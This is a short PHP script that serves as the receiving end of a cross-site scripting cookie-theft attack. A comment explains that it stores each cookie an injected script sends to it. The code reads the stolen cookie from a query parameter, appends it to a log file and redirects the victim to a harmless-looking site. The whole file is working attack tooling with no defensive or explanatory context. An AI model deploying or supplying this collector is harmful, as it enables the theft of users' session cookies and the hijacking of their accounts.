<?php
// each cookie an injected script sends here is kept, one a line
$c = $_GET['c00kie'];
$log = fopen('jar.txt', 'a');
fputs($log, $c . PHP_EOL);
fclose($log);
header('Location: https://www.example.com/');
